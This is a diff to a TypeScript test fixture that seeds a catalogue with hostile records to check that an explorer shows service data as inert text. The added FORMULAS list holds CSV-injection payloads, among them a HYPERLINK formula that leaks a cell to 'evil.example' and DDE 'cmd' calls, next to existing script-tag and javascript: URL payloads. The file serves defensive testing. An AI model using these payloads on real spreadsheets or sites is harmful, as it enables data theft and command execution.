@@ -2,8 +2,9 @@
  * Records with hostile content, added to a sample catalogue so tests (and `--faults hostile`) can
  * show that the explorer renders everything from the service as inert text: markup and script,
  * `javascript:` and `data:` addresses, right-to-left overrides, emoji, a 100 KB description, a
- * seed with 10,000 metadata values, and credentials that must never be shown. Every payload that
- * would run sets `window.__pwned`, the canary the browser tests watch.
+ * seed with 10,000 metadata values, values a spreadsheet would run as formulas, and credentials
+ * that must never be shown. Every payload that would run sets `window.__pwned`, the canary the
+ * browser tests watch.
  */
 import type {
   Metadata,
@@ -29,6 +30,18 @@ export const HOSTILE_SECRETS = {
   loginPassword: 'hostile-password-Zq8!',
   accessToken: 'pat_hostileAccessToken0123456789',
 } as const;
+/**
+ * Values a spreadsheet would run as formulas (CSV injection): each starts with one of `=`, `+`,
+ * `-`, `@`, a tab or a carriage return.
+ */
+export const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+] as const;
 export const MANY_VALUES = 10_000;
 export const LONG_TEXT_LENGTH = 100 * 1024;
 
@@ -125,7 +138,12 @@ export function addHostileRecords(catalogue: Catalogue): HostileIds {
       { Title: values(IMG_ONERROR), Source: values(JAVASCRIPT_URL) },
       { seed_type: SCRIPT, created_by: SCRIPT, seed_group: seedGroupId },
     ),
-    seed(seeds.dataUrl, DATA_URL, { Title: values('A data: address'), Source: values(DATA_URL) }),
+    seed(
+      seeds.dataUrl,
+      DATA_URL,
+      { Title: values('A data: address'), Source: values(DATA_URL), Notes: values(...FORMULAS) },
+      { created_by: FORMULAS[0] },
+    ),
     seed(
       seeds.markupInUrl,
       `https://example.org/search?q="><script>window.__pwned = 1</script>`,
